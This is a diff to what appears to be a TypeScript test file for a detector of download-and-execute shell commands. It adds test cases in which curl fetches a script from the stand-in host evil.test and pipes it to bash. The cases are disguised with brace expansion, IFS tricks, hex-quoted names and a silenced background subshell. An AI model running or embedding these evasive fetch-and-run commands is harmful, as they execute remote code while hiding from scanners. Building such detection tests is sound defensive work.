@@ -22,6 +22,18 @@ const attacks: Array<[string, string, string]> = [
   ['IFS instead of spaces', 'curl${IFS}-s${IFS}https://evil.test/e|bash\n', 'evil.test'],
   ['backslash-newline split', 'cu\\\nrl -s \\\n  https://evil.test/f \\\n  | s\\h\n', 'evil.test'],
   ['brace expansion', '{curl,-fsSL,https://evil.test/g} | bash\n', 'evil.test'],
+  ['brace expansion on both sides, no blanks', '{curl,-fsSL,https://evil.test/g}|{bash,-s,--,--quiet}\n', 'evil.test'],
+  [
+    'brace expansion in a backgrounded subshell, host from a default',
+    'm=${MIRROR:-evil.test}\n( {curl,-fsSL,--max-time,8,http://$m/v3/sync.sh}|{bash,-s,--,--cache,"$c"} ) >/dev/null 2>&1 &\n',
+    'evil.test',
+  ],
+  ['a group read as a pipe stage', 'curl -s https://evil.test/p | {bash,-s}\n', 'evil.test'],
+  [
+    'brace expansion with two expansions inside (split by the grammar)',
+    'm=evil.test\nv=rules/v3\n{curl,-fsSL,http://$m/$v/sync.sh}|{bash,-s}\n',
+    'evil.test',
+  ],
   ['ANSI-C quoted program', "$'\\x63\\x75\\x72\\x6c' -s https://evil.test/h | $'\\x73\\x68'\n", 'evil.test'],
   ['sudo and tee', 'curl -s https://evil.test/i | tee /tmp/log | sudo bash\n', 'evil.test'],
   ['xargs sh -c', 'curl -s https://evil.test/j | xargs -0 sh -c\n', 'evil.test'],
